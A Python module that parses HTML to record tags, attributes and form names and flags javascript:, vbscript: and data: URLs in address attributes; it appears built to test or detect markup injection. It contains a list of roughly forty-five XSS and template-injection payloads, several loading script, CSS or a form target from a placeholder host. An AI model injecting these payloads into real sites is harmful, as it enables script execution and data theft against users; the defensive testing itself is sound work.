"""What of a page is markup: its elements, their attributes, and the addresses that could run a program."""

from html.parser import HTMLParser

ADDRESSES = frozenset({"href", "src", "action", "formaction", "data", "srcset", "xlink:href", "poster"})
PROGRAMS = ("javascript:", "vbscript:", "data:text", "data:image/svg")

PAYLOADS = (
    "<script>alert(1)</script>", "<ScRiPt src=//x.example/a.js></ScRiPt>", "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>", "</script><script>alert(1)</script>", "<img src=x onerror=alert(1)>",
    "<img/src=x/onerror=alert(1)>", '"><img src=x onerror=alert(1)>', "'><svg/onload=alert(1)>", "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>", "<svg><animate onbegin=alert(1) attributeName=x>", "<body onload=alert(1)>",
    "<iframe src=javascript:alert(1)></iframe>", '<iframe srcdoc="<script>alert(1)</script>">', "<object data=data:text/html,x>",
    "<embed src=//x.example/x.swf>", "<base href=//x.example/>", '<meta http-equiv=refresh content="0;url=//x.example">',
    "<link rel=stylesheet href=//x.example/x.css>", "<style>*{background:url(//x.example)}</style>",
    "<form action=//x.example><input name=p><button>", "<input autofocus onfocus=alert(1)>", '" autofocus onfocus=alert(1) x="',
    "' autofocus onfocus='alert(1)", '" onmouseover="alert(1)', '" style="x:expression(alert(1))" y="', "<a href=javascript:alert(1)>x</a>",
    '<a href="java&#x09;script:alert(1)">x</a>', "javascript:alert(1)", "<details open ontoggle=alert(1)>", "<math><mtext><img src=x onerror=alert(1)>",
    "<marquee onstart=alert(1)>", "<video><source onerror=alert(1)></video>", "<template><script>alert(1)</script></template>",
    "--><script>alert(1)</script>", "<![CDATA[<script>alert(1)</script>]]>", "&lt;script&gt;alert(1)&lt;/script&gt;",
    '" hx-get="/x" hx-trigger="load" y="', "<div hx-on:click=alert(1)>", "{{ 7|add:7 }}{% debug %}", "${7*7}<%= 7*7 %>#{7*7}",
    "\u202e<script>alert(1)</script>", "＜script＞alert(1)＜/script＞", "<scr\u0000ipt>alert(1)</scr\u0000ipt>".replace("\0", ""),
)  # fmt: skip


class Reader(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.shapes: set[tuple[str, str]] = set()
        self.programs: list[str] = []
        self.names: set[str] = set()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.shapes.add((tag, ""))
        for name, value in attrs:
            self.shapes.add((tag, name))
            if name == "name":
                self.names.add(value or "")
            said = "".join((value or "").split()).lower()
            if name in ADDRESSES and said.startswith(PROGRAMS):
                self.programs.append(f"{tag} {name}={value}")

    handle_startendtag = handle_starttag


def read(page: str) -> Reader:
    reader = Reader()
    reader.feed(page)
    reader.close()
    return reader
